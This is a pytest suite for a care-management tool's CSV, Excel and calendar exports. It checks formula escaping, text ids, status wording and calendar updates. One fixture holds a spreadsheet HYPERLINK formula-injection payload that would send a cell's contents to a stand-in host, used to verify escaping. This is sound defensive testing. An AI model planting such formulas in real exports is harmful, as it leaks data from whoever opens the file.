"""Output that other programs open: CSV (pandas, LibreOffice), Excel (openpyxl), the
calendar (icalendar), and one status vocabulary and readable 出典 across all of them."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import unicodedata
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import OTHER_STAFF, git, new_case
from yobo.casebook import ID_ALPHABET, ID_LENGTH
from yobo.citations import NATIONAL, SEEDS, label_source
from yobo.export import CASE_COLUMNS, FORMULA_START, ID_MARK, escape_cell, to_csv
from yobo.rules.due import Due
from yobo.vocab import DUE_STATUSES

TODAY = "2026-11-22"
EVIL_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"開く")'


@pytest.fixture
def sample(cli, tmp_path):
    root = tmp_path / "sample"
    assert cli("init", str(root), "--sample", "--as", "田中美咲").code == 0
    return root


def rename_case(root: Path, old: str, new: str) -> None:
    """Give a case another id (folder and every file naming it), committed: ids a
    spreadsheet reads as numbers are rare from the generator but must be safe."""
    source = root / "cases" / old[:2] / old
    target = root / "cases" / new[:2] / new
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.move(source, target)
    for path in target.rglob("*.yaml"):
        # quoted, as yobo's writer quotes a string YAML would read as a number
        text = path.read_text(encoding="utf-8").replace(f"id: {old}", f"id: '{new}'")
        path.write_text(text.replace(old, new), encoding="utf-8")
    git(root, "add", "-A")
    git(root, "-c", "user.name=テスト", "-c", "user.email=t@example.invalid", "commit", "-q", "-m", f"rename: {new}")


@pytest.fixture
def tricky(cli, casebook):
    """Two cases of 佐藤次郎 whose ids look like numbers (0E8418 is 0×10^8418 to a
    spreadsheet, 127324 a number), one of them named like a formula."""
    first = new_case(cli, casebook, manager=OTHER_STAFF, name=EVIL_NAME, insured_no="0000000001")
    second = new_case(cli, casebook, manager=OTHER_STAFF, insured_no="0000000002")
    rename_case(casebook, first, "0E8418")
    rename_case(casebook, second, "127324")
    return casebook


# -- CSV -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_formula_like_text_is_escaped(text):
    assert escape_cell(text) == "'" + text
    assert escape_cell("佐藤 一郎") == "佐藤 一郎" and escape_cell("2026-11-30") == "2026-11-30"


def _csv(cli, *args) -> str:
    run = cli(*args)
    assert run.code == 0, run.stderr
    assert run.stdout.startswith("\ufeff")
    return run.stdout


def test_case_list_csv_is_safe_and_keeps_ids_as_text(cli, tricky, tmp_path):
    text = _csv(cli, "case", "list", "-C", str(tricky), "--staff", OTHER_STAFF, "--csv")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert {r["ID"] for r in rows} == {ID_MARK + "0E8418", ID_MARK + "127324"}
    evil = next(r for r in rows if r["ID"].endswith("0E8418"))
    assert evil["氏名"] == "'" + EVIL_NAME  # text, not a live formula
    assert evil["認定終了日"] == "2027-03-31" and evil["状態"] == "支援中"

    # pandas with its type inference on (no dtype=str): the ids stay text
    import pandas as pd

    path = tmp_path / "cases.csv"
    path.write_text(text, encoding="utf-8", newline="")
    frame = pd.read_csv(path, encoding="utf-8-sig")
    assert not pd.api.types.is_numeric_dtype(frame["ID"])
    assert sorted(frame["ID"].str.removeprefix(ID_MARK)) == ["0E8418", "127324"]
    assert frame.loc[frame["ID"].str.endswith("0E8418"), "氏名"].item() == "'" + EVIL_NAME
    # without the mark the same column would have been numbers: the test means something
    bare = pd.read_csv(io.StringIO(text.lstrip("\ufeff").replace(ID_MARK, "")))
    assert pd.api.types.is_numeric_dtype(bare["ID"])


def test_due_csv_is_safe_and_keeps_ids_as_text(cli, tricky, tmp_path):
    out = tmp_path / "due.csv"
    run = cli("monitor", "due", "-C", str(tricky), "--staff", OTHER_STAFF, "--within", "400", "--csv", "-o", str(out))
    assert run.code == 0, run.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows and {r["ケース"] for r in rows} == {ID_MARK + "0E8418", ID_MARK + "127324"}
    assert all(r["氏名"] == "'" + EVIL_NAME for r in rows if r["ケース"].endswith("0E8418"))
    assert all(r["状態"] == DUE_STATUSES[r["状態コード"]] for r in rows)
    assert all(not r["出典"].startswith(("seed", "national")) for r in rows)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_csv_with_text_ids_and_no_formula(cli, tricky, tmp_path):
    """LibreOffice's own CSV import (UTF-8, comma, default options), read back."""
    import openpyxl

    source = tmp_path / "cases.csv"
    source.write_text(_csv(cli, "case", "list", "-C", str(tricky), "--staff", OTHER_STAFF, "--csv"),
                      encoding="utf-8", newline="")
    subprocess.run(["soffice", "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir",
                    str(tmp_path), str(source)], check=True, capture_output=True, timeout=120,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    sheet = openpyxl.load_workbook(tmp_path / "cases.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ids = {c.value.removeprefix(ID_MARK) for c in next(sheet.iter_cols(min_row=2, max_col=1))}
    assert ids == {"0E8418", "127324"}
    assert all(c.data_type == "s" for c in next(sheet.iter_cols(min_row=2, max_col=1)))
    assert any(c.value == "'" + EVIL_NAME for c in cells)


# -- Excel ---------------------------------------------------------------------------------------------


def _sheet(path: Path):
    import openpyxl

    return openpyxl.load_workbook(path).active


def test_case_list_xlsx_has_typed_cells(cli, tricky, tmp_path):
    out = tmp_path / "cases.xlsx"
    run = cli("case", "list", "-C", str(tricky), "--staff", OTHER_STAFF, "--xlsx", str(out))
    assert run.code == 0, run.stderr
    sheet = _sheet(out)
    header = [c.value for c in sheet[1]]
    assert header[:2] == ["ID", "氏名"] and "認定終了日" in header
    rows = list(sheet.iter_rows(min_row=2))
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ids = {row[0].value: row for row in rows}
    assert set(ids) == {"0E8418", "127324"}  # exact text, no mark needed in a sheet
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in rows)
    evil = ids["0E8418"][1]
    assert evil.value == EVIL_NAME and evil.data_type == "s" and evil.quotePrefix
    end = ids["0E8418"][header.index("認定終了日")]
    assert end.is_date and end.value.date().isoformat() == "2027-03-31" and end.number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:K{len(rows) + 1}"


def test_due_xlsx_has_typed_cells_and_the_same_words(cli, sample, tmp_path):
    out = tmp_path / "due.xlsx"
    assert cli("monitor", "due", "-C", str(sample), "--today", "2026-12-05", "--xlsx", str(out)).code == 0
    items = json.loads(cli("monitor", "due", "-C", str(sample), "--today", "2026-12-05", "--json").stdout)
    sheet = _sheet(out)
    header = [c.value for c in sheet[1]]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(rows) == len(items)
    col = {name: header.index(name) for name in header}
    for row, item in zip(rows, items):
        assert row[col["状態コード"]] == item["status"] and row[col["状態"]] == item["status_label"]
        assert row[col["期限"]].date().isoformat() == item["due"]
        assert (row[col["ケース"]] or None) == item["case"] and row[col["出典"]] == item["source_label"]
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_output_options_are_checked(cli, sample, tmp_path):
    for args, field in ((("--names",), "--names"), (("--remind", "3"), "--remind"),
                        (("--csv", "--xlsx", str(tmp_path / "x.xlsx")), "--csv"),
                        (("--xlsx", str(tmp_path / "x.xlsx"), "-o", str(tmp_path / "y")), "--output")):
        run = cli("monitor", "due", "-C", str(sample), *args)
        assert run.code == 2 and field in run.stderr, (args, run.stderr)
    assert cli("case", "list", "-C", str(sample), "-o", str(tmp_path / "x.csv")).code == 2
    assert [p.name for p in tmp_path.iterdir()] == ["sample"]  # nothing written
    missing = cli("monitor", "due", "-C", str(sample), "--xlsx", str(tmp_path / "no" / "x.xlsx"))
    assert missing.code == 2 and "--xlsx" in missing.stderr


# -- the calendar --------------------------------------------------------------------------------------


def _events(path: Path) -> dict:
    from icalendar import Calendar

    calendar = Calendar.from_ical(path.read_bytes())
    return {str(e["UID"]): e for e in calendar.walk("VEVENT")}


def _ics(cli, root, out, *args, today=TODAY):
    run = cli("monitor", "due", "-C", str(root), "--today", today, "--within", "400", "--ics", "-o", str(out), *args)
    assert run.code == 0, run.stderr
    return _events(out)


def _people(cli, root) -> set[str]:
    cases = json.loads(cli("case", "list", "-C", str(root), "--all", "--json").stdout)
    staff = json.loads(cli("staff", "list", "-C", str(root), "--json").stdout)
    return {c["name"] for c in cases} | {c["name"].split()[0] for c in cases} | {s["name"] for s in staff}


def test_calendar_has_no_names_unless_asked(cli, sample, tmp_path):
    events = _ics(cli, sample, tmp_path / "due.ics")
    assert events
    people = _people(cli, sample)
    text = (tmp_path / "due.ics").read_text(encoding="utf-8")
    unfolded = text.replace("\r\n ", "")
    assert not [p for p in people if p in unfolded]
    for event in events.values():
        summary = str(event["SUMMARY"])
        assert not summary.startswith("【") and not any(label in summary for label in DUE_STATUSES.values())
        case = str(event["UID"]).split("-")[0]
        assert case == "office" or case in summary
        assert str(event["X-YOBO-STATUS"]) in DUE_STATUSES and str(event["STATUS"]) == "CONFIRMED"
    named = _ics(cli, sample, tmp_path / "named.ics", "--names")
    assert any("小林 正男" in str(e["SUMMARY"]) for e in named.values())
    assert any("担当: 田中美咲" in str(e["DESCRIPTION"]) for e in named.values())


def test_a_moved_deadline_updates_its_event_and_a_gone_one_is_cancelled(cli, sample, tmp_path):
    out = tmp_path / "due.ics"
    first = _ics(cli, sample, out)
    uid = next(u for u in first if u.startswith("3QK7WA-certification-end-"))
    assert str(first[uid]["DTSTART"].to_ical().decode()) == "20270430" and first[uid]["SEQUENCE"] == 0
    gone = next(u for u in first if u.startswith("A7PE3K-visit-evaluation-month-"))
    unchanged = next(u for u in first if u.startswith("5MZ2RT-monitoring-record-2026-11"))

    # nothing changed: the same file again, byte for byte (SEQUENCE and stamps carried over)
    before = out.read_bytes()
    _ics(cli, sample, out)
    assert out.read_bytes() == before

    # the certification's end corrected by a day; the evaluation-month visit made
    cert = sample / "cases/3Q/3QK7WA/certifications/2026-11-01.yaml"
    cert.write_text(cert.read_text(encoding="utf-8").replace("to: 2027-04-30", "to: 2027-04-29"), encoding="utf-8")
    assert cli("monitor", "record", "A7PE3K", "--method", "visit", "-C", str(sample), "--today", TODAY,
               "--as", "高橋健一").code == 0
    second = _ics(cli, sample, out)
    moved = [e for u, e in second.items() if u.startswith("3QK7WA-certification-end-")]
    assert len(moved) == 1 and str(moved[0]["UID"]) == uid  # no stale event beside it
    assert moved[0]["DTSTART"].dt.isoformat() == "2027-04-29" and moved[0]["SEQUENCE"] == 1
    assert moved[0]["LAST-MODIFIED"].dt > first[uid]["LAST-MODIFIED"].dt or moved[0]["SEQUENCE"] == 1
    assert str(second[gone]["STATUS"]) == "CANCELLED" and second[gone]["SEQUENCE"] == 1
    assert str(second[gone]["SUMMARY"]) == "取り消し（A7PE3K visit-evaluation-month）"
    assert second[gone]["DTSTART"].dt == first[gone]["DTSTART"].dt
    assert second[unchanged]["SEQUENCE"] == 0
    assert second[unchanged]["LAST-MODIFIED"].dt == first[unchanged]["LAST-MODIFIED"].dt

    # the next export still carries the cancellation, unchanged
    third = _ics(cli, sample, out)
    assert str(third[gone]["STATUS"]) == "CANCELLED" and third[gone]["SEQUENCE"] == 1
    # …and drops it once it is long past
    later = _ics(cli, sample, out, today="2027-03-10")
    assert gone not in later


def test_reminders(cli, sample, tmp_path):
    events = _ics(cli, sample, tmp_path / "due.ics", "--remind", "3")
    for event in events.values():
        alarms = [c for c in event.subcomponents if c.name == "VALARM"]
        assert len(alarms) == 1 and alarms[0]["TRIGGER"].dt == timedelta(days=-3)
        assert str(alarms[0]["ACTION"]) == "DISPLAY"
    plain = _ics(cli, sample, tmp_path / "plain.ics")
    assert not any(e.subcomponents for e in plain.values())


def test_another_file_is_not_overwritten(cli, sample, tmp_path):
    out = tmp_path / "mine.ics"
    out.write_text("BEGIN:VCALENDAR\r\nPRODID:-//someone else//EN\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n")
    run = cli("monitor", "due", "-C", str(sample), "--ics", "-o", str(out))
    assert run.code == 2 and "上書きしません" in run.stderr
    assert "someone else" in out.read_text()
    empty = tmp_path / "empty.ics"
    empty.write_bytes(b"")
    assert cli("monitor", "due", "-C", str(sample), "--ics", "-o", str(empty)).code == 0
    assert empty.read_bytes().startswith(b"BEGIN:VCALENDAR")
    notes = tmp_path / "notes.ics"
    notes.write_text("買い物メモ")
    assert cli("monitor", "due", "-C", str(sample), "--ics", "-o", str(notes)).code == 2
    assert notes.read_text() == "買い物メモ"


# -- one vocabulary -------------------------------------------------------------------------------------


def test_one_status_vocabulary_everywhere(cli, sample, tmp_path):
    day = "2026-12-05"  # November's records are missing by then: overdue items exist
    items = json.loads(cli("monitor", "due", "-C", str(sample), "--today", day, "--json").stdout)
    codes = {d["status"] for d in items}
    assert {"overdue", "due"} <= codes and codes <= set(DUE_STATUSES)
    assert all(d["status_label"] == DUE_STATUSES[d["status"]] for d in items)

    table = cli("monitor", "due", "-C", str(sample), "--today", day, "--limit", "0").stdout
    for code in codes:
        assert DUE_STATUSES[code] in table
    csv_rows = list(csv.DictReader(io.StringIO(cli("monitor", "due", "-C", str(sample), "--today", day,
                                                   "--csv").stdout.lstrip("\ufeff"))))
    assert [(r["状態コード"], r["状態"]) for r in csv_rows] == [(d["status"], d["status_label"]) for d in items]
    events = _ics(cli, sample, tmp_path / "due.ics", today=day)
    from_json = sorted((d["case"] or "office", d["code"], d["status"]) for d in items
                       if d["status"] != "upcoming" or d["due"] <= "2027-01-04")
    from_ics = sorted((u.split("-")[0], str(e["CATEGORIES"].cats[0]), str(e["X-YOBO-STATUS"])) for u, e in events.items())
    assert set(from_json) <= set(from_ics)
    report = cli("report", "monthly", "--month", "2026-12", "-C", str(sample), "--today", day).stdout
    assert DUE_STATUSES["overdue"] in report
    # the words the issue found side by side are gone
    for text in (table, report, json.dumps(csv_rows, ensure_ascii=False)):
        for old in ("今週", "それ以降", "対応中"):
            assert old not in text


def test_no_other_status_words_in_the_code():
    """The words of the old three vocabularies appear nowhere in yobo's messages and forms."""
    from yobo.resources import data_dir

    root = Path(__file__).resolve().parents[1]
    files = [*(root / "yobo").rglob("*.py"), *data_dir("templates").rglob("*.j2")]
    for path in files:
        text = path.read_text(encoding="utf-8")
        for old in ("対応中", "今週（", "それ以降"):
            assert old not in text, (path.name, old)


def test_status_filter_names_the_vocabulary(cli, sample):
    run = cli("monitor", "due", "-C", str(sample), "--status", "対応中")
    assert run.code == 2 and "overdue（期限切れ）" in run.stderr and "done（完了）" in run.stderr


# -- readable 出典 ---------------------------------------------------------------------------------------


def test_readable_sources():
    assert label_source("seed 002 資料1-7; seed 000 手順15") == "鈴鹿亀山地区広域連合 業務マニュアル 資料1-7、舟形町 業務の流れ 手順15"
    assert label_source("national-rules.md §3") == NATIONAL["3"]
    assert label_source("national-rules.md §2.2") == NATIONAL["2"]  # a subsection shares its section's basis
    assert label_source("seed 004 委託ケースから直接実施への移行期間（30日以内）").startswith("水戸市 ")
    assert label_source("何かの通知") == "何かの通知"  # what the tables do not know stays as written
    assert label_source("") == ""


def _seed_dir() -> Path | None:
    here = Path(__file__).resolve()
    for candidate in (here.parents[1].parent / "shared" / "seeds", here.parents[2] / "shared" / "seeds",
                      Path("/work/shared/seeds")):
        if candidate.is_dir():
            return candidate
    return None


def _words(text: str) -> str:
    return "".join(re.findall(r"\w", unicodedata.normalize("NFKC", text)))


@pytest.mark.skipif(_seed_dir() is None, reason="the seed files (shared/seeds) are not beside the project")
def test_the_seed_table_is_typed_from_the_seeds():
    """Each municipality is named in its seed, each title printed at its head: 000 line 1
    「業務の流れ」 (舟形町, line 324); 001 line 3; 002 lines 3–6 (鈴鹿亀山地区広域連合, line 10);
    003 line 1 (豊島区, line 5); 004 lines 2–3 (水戸市, line 57)."""
    seeds = {path.name[:3]: path.read_text(encoding="utf-8") for path in _seed_dir().glob("*.txt")}
    assert set(SEEDS) == set(seeds)
    for number, seed in SEEDS.items():
        text = seeds[number]
        assert seed.municipality in text, number
        head = _words("".join(text.splitlines()[:12]))
        assert _words(seed.title) in head, number


def test_due_json_and_report_show_readable_sources(cli, sample):
    items = json.loads(cli("monitor", "due", "-C", str(sample), "--today", TODAY, "--json").stdout)
    for item in items:
        assert item["source"] and item["source_label"] == label_source(item["source"])
        assert "seed" not in item["source_label"] and ".md" not in item["source_label"]
    report = cli("report", "monthly", "--month", "2026-11", "-C", str(sample), "--today", TODAY).stdout
    assert "鈴鹿亀山地区広域連合 業務マニュアル 資料1-7" in report and "seed 002" not in report


def test_an_export_of_the_old_format_is_taken_over(cli, sample, tmp_path):
    """A calendar written before UIDs were stable (sha1 of title and date, status in the
    SUMMARY): its events are cancelled once and the new ones take their place."""
    out = tmp_path / "due.ics"
    out.write_bytes("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//yobo//monitor due//JA\r\nBEGIN:VEVENT\r\n"
                    "UID:6ff5b8a51eb5af39e7efa232833156186db359a3@yobo\r\nDTSTAMP:20261130T080309Z\r\n"
                    "DTSTART;VALUE=DATE:20261130\r\nDTEND;VALUE=DATE:20261201\r\n"
                    "SUMMARY:【対応中】2026年11月のモニタリング記録（5MZ2RT 小林 正男）\r\n"
                    "END:VEVENT\r\nEND:VCALENDAR\r\n".encode("utf-8"))
    events = _ics(cli, sample, out)
    old = events["6ff5b8a51eb5af39e7efa232833156186db359a3@yobo"]
    assert str(old["STATUS"]) == "CANCELLED" and old["SEQUENCE"] == 1
    assert any(u.startswith("5MZ2RT-monitoring-record-2026-11@") for u in events)
    assert "小林" not in out.read_text(encoding="utf-8")  # the old file's names are not carried on


# -- properties ----------------------------------------------------------------------------------------

_text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.text(alphabet=ID_ALPHABET, min_size=ID_LENGTH, max_size=ID_LENGTH), _text, _text),
                max_size=5))
def test_no_csv_cell_starts_a_formula(rows):
    """Whatever the text, a cell read back either starts harmlessly or with the escaping
    ``'`` followed by the original text; an id reads back as itself after its mark."""
    table = [(case, name, kana, None, None, None, None, None, None, None, None) for case, name, kana in rows]
    text = to_csv(CASE_COLUMNS, table)
    read = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))[1:]
    assert len(read) == len(rows)
    for (case, name, kana), cells in zip(rows, read):
        assert cells[0] == ID_MARK + case
        for original, cell in ((name, cells[1]), (kana, cells[2])):
            assert not cell.startswith(FORMULA_START)
            assert cell == ("'" + original if original.startswith(FORMULA_START) else original)


_due = st.builds(
    lambda case, code, day, title: Due(case, code, title, date(2026, 1, 1) + timedelta(days=day),
                                       date(2026, 1, 1) + timedelta(days=day), "", "kyotaku", "seed 002 資料1-7"),
    st.sampled_from(["", "0E8418", "127324", "5MZ2RT"]),
    st.sampled_from(["monitoring-record", "visit-state-change", "plan-period", "evaluation"]),
    st.integers(0, 400), _text.filter(lambda t: t.strip()))


@settings(max_examples=60, deadline=None)
@given(st.lists(_due, max_size=12), st.lists(_due, max_size=12))
def test_calendar_uids_are_unique_and_updates_are_stable(first, second):
    """Any list gives unique UIDs; exporting over the last export lists every obligation
    once, cancels exactly those gone, and an unchanged re-export is the same bytes."""
    from icalendar import Calendar

    from yobo.export import read_calendar, to_ics

    today = date(2026, 1, 1)
    stamp = datetime(2026, 1, 1, 9, tzinfo=timezone.utc)
    one = to_ics(first, today=today, stamp=stamp)
    events = list(Calendar.from_ical(one).walk("VEVENT"))
    assert len({str(e["UID"]) for e in events}) == len(events) == len(first)
    two = to_ics(second, today=today, stamp=stamp + timedelta(days=1), previous=read_calendar(one, "x"))
    after = {str(e["UID"]): e for e in Calendar.from_ical(two).walk("VEVENT")}
    live = [e for e in after.values() if str(e["STATUS"]) == "CONFIRMED"]
    assert len(live) == len(second)
    gone = {str(e["UID"]) for e in events} - {str(e["UID"]) for e in live}
    assert {u for u, e in after.items() if str(e["STATUS"]) == "CANCELLED"} == gone
    again = to_ics(second, today=today, stamp=stamp + timedelta(days=2), previous=read_calendar(two, "x"))
    assert again == two  # cancellations carried as they were, nothing else changed
